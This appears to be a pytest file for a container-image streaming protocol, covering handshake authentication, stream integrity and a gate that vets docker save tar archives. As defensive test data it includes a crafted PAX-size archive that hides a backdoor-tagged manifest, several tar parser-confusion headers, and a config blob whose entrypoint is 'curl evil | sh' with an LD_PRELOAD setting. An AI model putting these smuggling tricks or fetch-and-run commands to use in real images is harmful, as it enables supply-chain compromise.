"""The image stream protocol (module_utils/_image/_stream.py): both ends prove the run's secret, the
keyed digest catches an altered stream, and the tar gate holds back and checks the tag-bearing
members of a docker save archive."""
from __future__ import annotations

import hashlib
import io
import json
import posixpath
import socket
import tarfile
import threading
import time

import pytest

from ansible_collections.lanekit.serving.plugins.module_utils._image._docker_cli import image_pin
from ansible_collections.lanekit.serving.plugins.module_utils._image._stream import (
    AUTH,
    DATA,
    MAGIC,
    MAX_HELLO,
    PreAuth,
    StreamMac,
    StreamRefused,
    TarGate,
    client_handshake,
    config_digest_of_blob,
    config_digest_of_inspect,
    json_frame,
    new_nonce,
    read_json,
    server_handshake,
)

REF = "lanekit/thin:aaaaaaaaaaaa"
HASH = "a" * 64


def run_pair(server_side, client_side):
    left, right = socket.socketpair()
    left.settimeout(5)
    right.settimeout(5)
    outcome = {}

    def serve():
        try:
            outcome["server"] = server_side(left)
        except Exception as exc:  # noqa: BLE001 - the test inspects it
            outcome["server_error"] = exc

    thread = threading.Thread(target=serve)
    thread.start()
    try:
        outcome["client"] = client_side(right)
    except Exception as exc:  # noqa: BLE001
        outcome["client_error"] = exc
    right.close()
    thread.join(timeout=10)
    left.close()
    return outcome


def test_both_ends_with_the_secret_agree_on_a_session_key():
    out = run_pair(lambda s: server_handshake(s, "s3cret"),
                   lambda s: client_handshake(s, "s3cret", "node-1", {"content_hash": HASH, "have": []}))
    request, client, key = out["server"]
    assert request == {"content_hash": HASH, "have": []} and client == "node-1"
    assert out["client"] == key and len(key) == 32


def test_a_server_without_the_secret_is_refused_before_the_client_proves_anything():
    seen = []

    def fake_server(sock):
        seen.append(read_json(sock))
        sock.sendall(json_frame(AUTH, {"magic": MAGIC, "nonce": new_nonce(), "proof": "0" * 64}))
        sock.settimeout(1)
        try:
            seen.append(sock.recv(100))
        except TimeoutError:
            seen.append(b"(nothing)")

    out = run_pair(fake_server, lambda s: client_handshake(s, "s3cret", "n", {"content_hash": HASH}))
    assert isinstance(out["client_error"], StreamRefused)
    assert "could not prove it holds this run's secret" in str(out["client_error"])
    assert "proof" not in seen[0] and seen[1] in (b"", b"(nothing)")  # the client sent no proof


def test_a_server_speaking_the_old_protocol_is_refused():
    def old_server(sock):
        sock.recv(1000)
        sock.sendall(b'{"ok": true}\n' + bytes(100))

    out = run_pair(old_server, lambda s: client_handshake(s, "s3cret", "n", {}))
    assert isinstance(out["client_error"], StreamRefused)


def test_a_client_without_the_secret_is_refused():
    out = run_pair(lambda s: server_handshake(s, "s3cret"),
                   lambda s: client_handshake(s, "guess", "intruder", {"content_hash": HASH}))
    assert isinstance(out["client_error"], StreamRefused)  # it cannot check the server's proof either
    out = run_pair(lambda s: server_handshake(s, "s3cret"), _client_that_skips_the_server_check)
    assert isinstance(out["server_error"], StreamRefused) and "intruder" in str(out["server_error"])


def _client_that_skips_the_server_check(sock):
    sock.sendall(json_frame(AUTH, {"magic": MAGIC, "client": "intruder", "nonce": new_nonce()}))
    read_json(sock)
    sock.sendall(json_frame(AUTH, {"request": {"content_hash": HASH}, "proof": "f" * 64}))
    return read_json(sock)


def test_the_stream_digest_catches_an_altered_byte_and_a_short_stream():
    key = b"k" * 32
    sender = StreamMac(key)
    sent = sender.frame(DATA, b"hello world")
    end = json.loads(sender.end_frame()[9:])
    good = StreamMac(key)
    good.head(DATA, 11)
    good.update(sent[9:])
    good.check_end(end)
    altered = StreamMac(key)
    altered.head(DATA, 11)
    altered.update(b"hellO world")
    with pytest.raises(StreamRefused, match="altered"):
        altered.check_end(end)
    short = StreamMac(key)
    with pytest.raises(StreamRefused, match="announced 11"):
        short.check_end(end)


# -- the tar gate ---------------------------------------------------------------------------------
def config_blob(labels=None, entrypoint=("engine", "serve"), env=("A=1",)):
    layer = b"layer"
    return {"architecture": "amd64", "os": "linux",
            "config": {"Labels": {"io.lanekit.content-hash": HASH, **(labels or {})}, "Entrypoint": list(entrypoint),
                       "Env": list(env)},
            "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(layer).hexdigest()]}}


def archive(tags=(REF,), blob=None, repositories=None, fmt=tarfile.USTAR_FORMAT, long_names=False, index=None):
    blob = json.dumps(blob or config_blob()).encode()
    digest = hashlib.sha256(blob).hexdigest()
    buf = io.BytesIO()
    layer_dir = ("x" * 120 + "/") if long_names else "layer0/"
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tar:
        def add(name, data):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        add(layer_dir + "layer.tar", b"layer" * 1000)
        add(f"blobs/sha256/{digest}", blob)
        if index is not None:
            add("index.json", json.dumps(index).encode())
        manifest = [{"Config": f"blobs/sha256/{digest}", "RepoTags": list(tags), "Layers": [layer_dir + "layer.tar"]}]
        add("manifest.json", json.dumps(manifest).encode())
        if repositories is not None:
            add("repositories", json.dumps(repositories).encode())
    return buf.getvalue()


def through_gate(data, step=777, **pins):
    gate = TarGate(REF, HASH, **pins)
    for start in range(0, len(data), step):
        gate.feed(data[start:start + step])
    return gate, b""


@pytest.mark.parametrize("fmt,long_names", [(tarfile.USTAR_FORMAT, False), (tarfile.USTAR_FORMAT, True),
                                            (tarfile.PAX_FORMAT, True), (tarfile.GNU_FORMAT, True)])
def test_the_gate_reads_ustar_pax_and_gnu_archives_as_a_tar_reader_does(fmt, long_names):
    blob = config_blob()
    data = archive(fmt=fmt, long_names=long_names, repositories={"lanekit/thin": {"aaaaaaaaaaaa": "x"}})
    gate, _unused = through_gate(data, config=config_digest_of_blob(blob))
    gate.verify()
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        names = {posixpath.normpath(name) for name in tar.getnames()}
    assert gate.names == names  # long names (ustar prefix, PAX path, GNU 'L') as tarfile reads them


# -- the crafted archive of issue 22: a PAX size hides a whole second archive -----------------------
def header(name, size, kind=tarfile.REGTYPE, fmt=tarfile.USTAR_FORMAT):
    info = tarfile.TarInfo(name)
    info.size = size
    info.type = kind
    return info.tobuf(format=fmt)


def padded(data):
    return data + bytes(-len(data) % 512)


def pax_record(key, value):
    body = f" {key}={value}\n"
    size = len(body) + 1
    while len(str(size)) + len(body) != size:
        size = len(str(size)) + len(body)
    return f"{size}{body}".encode()


def pax_header(*records):
    body = b"".join(pax_record(key, value) for key, value in records)
    return header("././@PaxHeader", len(body), tarfile.XHDTYPE) + padded(body)


def hidden_archive(tags=("evil/backdoor:latest", REF)):
    """A whole archive of its own: a config blob, a manifest.json naming ``tags``, the end marker."""
    return archive(tags=tags)


def crafted(outer=None, hidden=None):
    """The outer (pinned) archive with a member whose PAX size is 0 while its ustar size covers the
    hidden archive: a reader that ignores the PAX size skips the hidden archive as that member's
    body; docker (and tarfile) honour it and read the hidden archive's manifest, then stop at its end."""
    outer = outer or archive()
    hidden = hidden or hidden_archive()
    member = pax_header(("size", 0)) + header("pad/hidden", len(hidden)) + hidden
    return member + outer


def test_the_crafted_archive_shows_the_gate_what_docker_sees_and_is_refused():
    data = crafted()
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:  # a reader like docker's: the hidden manifest
        assert json.load(tar.extractfile("manifest.json"))[0]["RepoTags"] == ["evil/backdoor:latest", REF]
    gate, _unused = through_gate(data)
    assert gate.ended and "pad/hidden" in gate.names  # stopped at the hidden end marker, like docker
    with pytest.raises(StreamRefused, match="not only the pinned"):
        gate.verify()


@pytest.mark.parametrize("make,match", [
    # two path records in one PAX header (docker takes the last, the old gate took the first)
    (lambda: pax_header(("path", "a.json"), ("path", "manifest.json")) + header("x", 0), "repeats the PAX record 'path'"),
    # two PAX headers before one member
    (lambda: pax_header(("path", "a")) + pax_header(("path", "b")) + header("x", 0),
     "repeats a PAX or GNU long-name header"),
    # a PAX path and a GNU long name on one member (docker takes the GNU one)
    (lambda: pax_header(("path", "a")) + header("././@LongLink", 14, tarfile.GNUTYPE_LONGNAME, tarfile.GNU_FORMAT)
     + padded(b"manifest.json\0") + header("x", 0), "both by a PAX path and a GNU long name"),
    # a PAX header body far beyond any honest path or size record
    (lambda: header("././@PaxHeader", 2 << 20, tarfile.XHDTYPE), "PAX or GNU long-name header"),
    (lambda: header("././@LongLink", 2 << 20, tarfile.GNUTYPE_LONGNAME, tarfile.GNU_FORMAT), "long-name header"),
    # a manifest.json of 2 MiB is not held in memory
    (lambda: header("manifest.json", 2 << 20), "far more than a manifest"),
    # the same member twice (a second manifest.json later in the stream)
    (lambda: padded(header("manifest.json", 2) + b"[]") + header("./manifest.json", 2), "carries manifest.json twice"),
    # a member kind docker save never writes
    (lambda: header("dev", 0, tarfile.CHRTYPE), "kind of tar member"),
    # a header whose checksum is wrong
    (lambda: header("x", 0)[:148] + b"0000000\0" + header("x", 0)[156:], "checksum"),
])
def test_the_gate_refuses_what_docker_save_does_not_write(make, match):
    data = make()
    with pytest.raises(StreamRefused, match=match):
        through_gate(data + bytes(1024))


def test_the_gate_keeps_the_ustar_prefix_out_of_gnu_headers():
    """A GNU header's bytes 345-500 are not a prefix (docker's reader ignores them there)."""
    block = bytearray(header("manifest.json", 0, fmt=tarfile.GNU_FORMAT))
    assert bytes(block[257:265]) == b"ustar  \0"
    block[345:349] = b"evil"
    block[148:156] = b"        "
    block[148:156] = (b"%06o\0 " % sum(block))
    gate, _unused = through_gate(bytes(block) + bytes(1024))
    assert gate.names == {"manifest.json"}


@pytest.mark.parametrize("make,match", [
    (lambda: archive(tags=(REF, "evil/backdoor:latest")), "not only the pinned"),
    (lambda: archive(tags=("docker.io/library/ubuntu:22.04",)), "not only the pinned"),
    (lambda: archive(repositories={"lanekit/thin": {"aaaaaaaaaaaa": "x"}, "ubuntu": {"latest": "x"}}), "repositories"),
    (lambda: archive(index={"manifests": [{"annotations": {"io.containerd.image.name": "docker.io/library/ubuntu:x"}}]}),
     "index.json names"),
    (lambda: archive(blob=config_blob(labels={"io.lanekit.content-hash": "b" * 64})), "content hash"),
    (lambda: archive().rstrip(b"\0"), "end marker"),
])
def test_the_gate_refuses_an_archive_that_names_anything_else(make, match):
    gate, _early = through_gate(make())
    with pytest.raises(StreamRefused, match=match):
        gate.verify()


def test_the_gate_refuses_another_entrypoint_or_env_under_the_right_label_and_layers():
    pinned = config_digest_of_blob(config_blob())
    for other in (config_blob(entrypoint=("/bin/sh", "-c", "curl evil | sh")), config_blob(env=("LD_PRELOAD=/x.so",))):
        gate, _early = through_gate(archive(blob=other), config=pinned)
        with pytest.raises(StreamRefused, match="configuration"):
            gate.verify()


def test_the_gate_refuses_a_config_blob_that_does_not_match_its_name():
    data = bytearray(archive())
    at = data.find(b'"Entrypoint"')
    data[at + 1] = ord("e")
    gate, _early = through_gate(bytes(data))
    with pytest.raises(StreamRefused, match="does not match its own digest"):
        gate.verify()


def test_config_digest_is_the_same_from_inspect_and_from_the_blob():
    blob = config_blob()
    inspect = {"Architecture": "amd64", "Os": "linux", "Id": "sha256:whatever",
               "Config": dict(blob["config"], Hostname="", AttachStdin=False, OnBuild=None, Volumes=None),
               "RootFS": {"Type": "layers", "Layers": blob["rootfs"]["diff_ids"]}}
    assert config_digest_of_inspect(inspect) == config_digest_of_blob(blob) == image_pin(inspect)["config"]
    inspect["Config"]["Entrypoint"] = ["other"]
    assert config_digest_of_inspect(inspect) != config_digest_of_blob(blob)


# -- issue 22: the handshake before the peer proved anything ------------------------------------------
def test_an_over_long_hello_is_refused_before_it_is_read():
    def client(sock):
        sock.sendall(b"A" + (MAX_HELLO + 1).to_bytes(8, "big"))  # and never the payload
        return sock.recv(100)

    def server(sock):
        try:
            return server_handshake(sock, "s3cret", 5)
        finally:
            sock.close()

    out = run_pair(server, client)
    assert out["client"] == b""  # closed at once, not after the deadline
    assert isinstance(out["server_error"], StreamRefused) and "over-long" in str(out["server_error"])


def test_the_handshake_has_one_deadline_however_slowly_the_bytes_come():
    def trickle(sock):
        for byte in b"A" + (50).to_bytes(8, "big") + b"{" * 50:
            try:
                sock.sendall(bytes([byte]))
            except OSError:
                return
            time.sleep(0.1)  # far inside any per-read timeout

    took = {}

    def server(sock):
        start = time.monotonic()
        try:
            return server_handshake(sock, "s3cret", 0.5)
        finally:
            took["seconds"] = time.monotonic() - start
            sock.close()  # the trickling client then sees the connection gone

    out = run_pair(server, trickle)
    assert isinstance(out["server_error"], StreamRefused) and "in time" in str(out["server_error"])
    assert 0.4 < took["seconds"] < 1.5


def test_pre_auth_admits_a_few_per_address_and_frees_a_slot_when_one_proves_itself():
    limit = PreAuth(per_peer=2, total=3)
    assert limit.admit("10.0.0.9") and limit.admit("10.0.0.9")
    assert not limit.admit("10.0.0.9")  # a third from that address
    assert limit.admit("10.0.0.2")
    assert not limit.admit("10.0.0.3")  # all three slots held
    limit.release("10.0.0.9")
    assert limit.admit("10.0.0.3") and limit.count() == 3
